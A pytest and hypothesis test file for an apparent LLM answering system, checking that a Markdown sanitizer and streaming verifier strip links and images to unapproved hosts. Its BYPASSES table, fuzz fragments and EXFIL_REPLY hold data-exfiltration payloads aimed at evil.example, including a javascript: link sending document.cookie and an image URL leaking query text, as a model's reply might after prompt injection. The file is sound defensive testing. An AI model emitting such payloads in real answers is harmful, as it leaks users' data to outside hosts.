"""Output hygiene against the known bypasses of a regex cleaner, fuzzed, and while streaming.

Each bypass class of issue 14 §1.2 has its own case; hypothesis then combines hostile fragments
into generated Markdown that, once cleaned and rendered, must load nothing and link nowhere but
the sources' own hosts. §1.1: a streamed answer sends only checked text, and the deltas add up
to the final answer.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sovra.answer import Answerer, EndpointInfo, GenerationChoice, readable, verify
from sovra.answer.verify import sanitize, verify_output
from sovra.domain import SearchFilter
from sovra.search.hybrid import SearchResult
from tests.support.answer import ScriptedGenerator, hit
from tests.support.injection_render import external_fetches

DOCS = "docs.internal.example"
HOSTS = {DOCS}
SOURCE_URI = f"https://{DOCS}/runbooks/etcd"
ETCD = "Run etcdctl defrag on each member to reclaim the etcd database space after compaction."

BYPASSES = {
    "reference_image": "See the chart ![a][r] now.\n\n[r]: HTTPS://evil.example/c?d=secret\n",
    "reference_image_later_block": "![a][r]\n\nMore text.\n\n[r]: https://evil.example/x\n",
    "reference_link": 'Read [the doc][r].\n\n[r]: //evil.example/p "t"\n',
    "collapsed_reference": "Read [r][].\n\n[R]: https://evil.example/p\n",
    "scheme_relative_link": "Read [this](//evil.example/p?d=secret).",
    "scheme_relative_image": "![x](//evil.example/p.png)",
    "upper_case_scheme": "Read [this](HTTPS://EVIL.EXAMPLE/p) and ![y](HtTp://evil.example/i).",
    "nested_brackets": "Read [a [b] [c [d]] e](https://evil.example/p?d=secret).",
    "nested_image_in_link": f"[![x](https://evil.example/i.png)]({SOURCE_URI})",
    "angle_destination": "Read [x](<https://evil.example/a b>).",
    "html_img": '<img src="https://evil.example/p.png">',
    "html_img_odd_case": "<IMG SRC=https://evil.example/p.png>",
    "html_img_slash": "<img/src='https://evil.example/p.png'/>",
    "html_img_attrs": '<img\nalt="x"\n  SrC = "//evil.example/p.png" onerror="fetch(1)">',
    "html_a": '<a href="https://evil.example/p">click</a>',
    "html_a_odd_case": "<A HrEf=//evil.example/p>click</a>",
    "html_block": '<div>\n<img src="https://evil.example/p.png">\n</div>\n',
    "html_style": '<p style="background:url(https://evil.example/p.png)">x</p>',
    "html_picture": '<picture><source srcset="https://evil.example/p.png"></picture>',
    "autolink": "Go to <https://evil.example/p?d=secret>.",
    "autolink_upper": "Go to <HTTPS://evil.example/p>.",
    "autolink_email": "Mail <leak@evil.example>.",
    "bare_url": "See https://evil.example/p?d=secret for more.",
    "bare_www": "See www.evil.example/p?d=secret for more.",
    "data_image": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "data_link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "javascript_link": "[x](javascript:fetch('https://evil.example/'+document.cookie))",
    "javascript_upper": "[x](JaVaScRiPt:alert(1))",
    "backslash_host": f"[x](https://evil.example\\@{DOCS}/p)",
    "userinfo_host": f"[x](https://{DOCS}@evil.example/p)",
    "entity_url": "[x](https&#58;//evil&#46;example/p)",
    "table_cell": "| a | b |\n|---|---|\n| [x](https://evil.example/p) | ![i](https://evil.example/i) |",
    "blockquote_list": "> - item ![x](https://evil.example/i.png)\n>   more",
    "heading": "## Result ![x](https://evil.example/i.png) ##",
    "setext": "Result [x](https://evil.example/p)\n===",
}


def test_the_bypasses_do_fetch_or_link_out_when_rendered_uncleaned() -> None:
    # The checker sees them (data:/javascript: links it does not render at all; other
    # renderers may, so those are checked by the cleaner's own rule).
    seen = [name for name, text in BYPASSES.items() if external_fetches(text, HOSTS)]
    assert len(seen) >= len(BYPASSES) - 5, sorted(set(BYPASSES) - set(seen))


@pytest.mark.parametrize("name", sorted(BYPASSES))
def test_bypass_class_renders_no_external_fetch(name: str) -> None:
    text = BYPASSES[name]
    clean, flags = sanitize(text, HOSTS)
    assert external_fetches(clean, HOSTS) == [], clean
    assert "evil.example" not in clean.replace(f"evil.example@{DOCS}", ""), clean
    assert flags or name == "backslash_host"  # rewritten: an allowed host after all


def test_allowed_links_and_plain_text_are_kept() -> None:
    text = f"Defrag each member [1]. See [the runbook]({SOURCE_URI}) or <{SOURCE_URI}>.\n"
    clean, flags = sanitize(text, HOSTS)
    assert clean == text and flags == []
    quoted = "Replace <node-name> with the node [1]."
    assert sanitize(quoted, HOSTS, quoted=True) == (quoted, [])
    rewritten, _ = sanitize(f"[ok]({SOURCE_URI}) and ![x](https://evil.example/i)", HOSTS)
    assert f"[ok]({SOURCE_URI})" in rewritten and "evil" not in rewritten


def test_verbatim_source_url_is_allowed_but_not_with_added_data() -> None:
    url = "https://vendor.example/kb/123"
    hits = [hit(f"{ETCD} Vendor note: {url}", 0, uri=SOURCE_URI)]
    kept = verify_output(f"See [the note]({url}) [1].", hits, "en")
    assert f"({url})" in kept.text
    leaked = verify_output(f"See [the note]({url}?d=defrag) [1].", hits, "en")
    assert "vendor.example" not in leaked.text and "removed_link" in leaked.flags


# -- fuzzing: hostile fragments combined by hypothesis --------------------------------------
EVIL = ["https://evil.example/x?d=s", "HTTPS://EVIL.example/x", "//evil.example/x",
        "http://evil.example:8080/x", "data:image/png;base64,AAAA", "javascript:alert(1)",
        "https://evil.example\\@docs.internal.example/", "www.evil.example/x",
        SOURCE_URI]  # fmt: skip
FRAGMENTS = [
    "![a]({u})", "[a]({u})", "[a]({u} \"t\")", "[a](<{u}>)", "<{u}>", "{u}", "![a][r]",
    "[a][r]", "[r]", "[r]: {u}", "<img src={u}>", "<IMG SRC=\"{u}\">", "<a href='{u}'>x</a>",
    "<img\nsrc={u}>", "[a [b]]({u})", "[![i]({u})]({u})", "`{u}`", "```\n{u}\n```", "> ", "- ",
    "1. ", "# ", "| x | ", "|---|", "\n", "\n\n", "    ", "*", "_", "[", "]", "(", ")", "!",
    "<", ">", "\\", "&#x3C;img src={u}&#x3E;", "<!-- {u} -->", "<div>", "</div>", "[1]",
    "etcd defrag",
]  # fmt: skip


@st.composite
def hostile_markdown(draw: st.DrawFn) -> str:
    parts = draw(
        st.lists(st.tuples(st.sampled_from(FRAGMENTS), st.sampled_from(EVIL)), max_size=14)
    )
    seps = draw(st.lists(st.sampled_from(["", " ", "\n", "\n\n", "x"]), min_size=len(parts)))
    return "".join(f.replace("{u}", u) + s for (f, u), s in zip(parts, seps, strict=False))


FUZZ = settings(
    max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow], database=None
)


@FUZZ
@given(hostile_markdown())
def test_fuzzed_markdown_never_renders_an_external_fetch(text: str) -> None:
    clean, _ = sanitize(text, HOSTS)
    assert external_fetches(clean, HOSTS) == [], (text, clean)
    quoted, _ = sanitize(text, HOSTS, quoted=True)
    assert external_fetches(quoted, HOSTS) == [], (text, quoted)


@FUZZ
@given(hostile_markdown(), st.lists(st.integers(0, 400), max_size=8))
def test_fuzzed_stream_sends_only_checked_text_adding_up_to_the_answer(
    text: str, cuts: list[int]
) -> None:
    hits = [hit(ETCD, 0, uri=SOURCE_URI)]
    stream = verify.CheckedStream(hits, "en")
    sent: list[str] = []
    bounds = [*sorted({min(c, len(text)) for c in cuts}), len(text)]
    begin = 0
    for end in bounds:
        sent.append(stream.feed(text[begin:end]))
        begin = end
        # Every prefix a client has rendered so far is clean, not only the whole.
        assert external_fetches("".join(sent), HOSTS) == [], (text, sent)
    sent.append(stream.close())
    assert "".join(sent) == stream.text
    assert external_fetches(stream.text, HOSTS) == [], (text, stream.text)


# -- streaming through the Answerer (§1.1) ----------------------------------------------------
@dataclass
class OneHitSearcher:
    hits: list

    def search(self, query: str, flt: SearchFilter, **_: object) -> SearchResult:
        return SearchResult(query, "en", "text", 0.0, list(self.hits))


def answerer(reply: str) -> Answerer:
    gen = ScriptedGenerator(reply)

    def choose(*_: object) -> GenerationChoice:
        return GenerationChoice(EndpointInfo("scripted"), gen)

    searcher = OneHitSearcher([hit(ETCD, 0, uri=SOURCE_URI)])
    return Answerer(searcher, None, choose)  # type: ignore[arg-type]


EXFIL_REPLY = (
    "Run etcdctl defrag on each member [1].\n\n"
    "![status](https://evil.example/c?d=etcdctl+defrag+member)\n\n"
    "Reclaim the space after compaction [1]. <img src=//evil.example/p.png>\n"
)


def test_streamed_deltas_never_carry_what_the_final_check_removes() -> None:
    deltas, final = [], None
    for event in answerer(EXFIL_REPLY).stream(
        "how do I defrag etcd?", SearchFilter(frozenset({"public"}))
    ):
        if event.answer is not None:
            final = event.answer
        elif event.delta:
            deltas.append(event.delta)
    assert final is not None and final.found
    streamed = "".join(deltas)
    assert "evil.example" not in streamed, streamed
    assert external_fetches(streamed, HOSTS) == []
    assert streamed == final.text
    assert {"removed_image", "removed_html"} <= set(final.flags)
    assert final.text.startswith("Run etcdctl defrag on each member [1].")


def test_streamed_refusal_sends_only_the_not_found_text() -> None:
    events = list(answerer("NOT_FOUND ![x](https://evil.example/a)").stream(
        "q", SearchFilter(frozenset({"public"}))
    ))  # fmt: skip
    final = events[-1].answer
    assert final is not None and not final.found
    assert "".join(e.delta for e in events) == final.text


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=200))
def test_readable_undoes_exactly_the_escapes_the_verifier_adds(text: str) -> None:
    from sovra.answer.verify import _escaped

    assert readable(_escaped(text)) == text
